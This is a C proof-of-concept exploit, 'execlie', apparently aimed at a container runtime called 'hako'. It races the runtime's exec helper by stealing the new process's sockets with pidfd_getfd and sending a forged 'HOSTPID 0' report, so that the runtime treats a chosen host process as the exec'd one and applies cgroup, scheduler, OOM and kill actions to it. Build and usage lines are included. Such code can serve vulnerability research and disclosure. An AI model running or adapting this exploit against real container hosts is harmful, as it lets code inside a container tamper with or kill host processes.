// execlie: in a container with CAP_SYS_PTRACE (no userns). `hako exec`'s
// process is cloned by a helper (CloneInside) that then reports "PID 0" on
// a socket the process also holds until its first instruction closes it.
// We spin on the next pid of our namespace; as soon as it exists we take
// its sockets with pidfd_getfd and send "HOSTPID 0" on each, newest first (the
// report socket, then the sync channel), hoping to be read before the helper's own answer: hako
// would then take HOSTPID as the exec'd process (cgroup, scheduler,
// oom_score_adj, kill on failure, waitpid).
// Usage: execlie HOSTPID [THREADS]     Build: gcc -static -O2 -pthread
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

static volatile int target, ready, got = -1, done;
static const char *victim;

static void *spin(void *arg) {
    __sync_fetch_and_add(&ready, 1);
    while (!target) ;
    while (!done) {
        int fd = syscall(SYS_pidfd_open, target, 0);
        if (fd < 0) continue;
        if (__sync_bool_compare_and_swap(&got, -1, fd)) {
            // newest SEQPACKET socket first
            for (int i = 12; i >= 3; i--) {
                int s = syscall(SYS_pidfd_getfd, fd, i, 0);
                if (s < 0) continue;
                int type = 0; socklen_t l = sizeof type;
                if (getsockopt(s, SOL_SOCKET, SO_TYPE, &type, &l) == 0 && type == SOCK_SEQPACKET) {
                    char msg[32]; snprintf(msg, sizeof msg, "%s 0", victim);
                    ssize_t r = send(s, msg, strlen(msg), MSG_NOSIGNAL);
                    printf("execlie: pid %d fd %d: sent \"%s\": %zd\n", target, i, msg, r);
                    done = 1;
                }
                close(s);
            }
            if (!done) printf("execlie: pid %d: no socket left\n", target);
            done = 1;
        } else close(fd);
    }
    return 0;
}

int main(int argc, char **argv) {
    victim = argc > 1 ? argv[1] : "1";
    int n = argc > 2 ? atoi(argv[2]) : 2;
    setvbuf(stdout, 0, _IONBF, 0);
    for (int t = 0; t < n; t++) { pthread_t th; pthread_create(&th, 0, spin, 0); }
    while (ready < n) usleep(100);
    target = getpid() + n + 1;
    printf("execlie: spinning on pid %d\n", target);
    while (!done) usleep(1000);
    sleep(2);
    return 0;
}
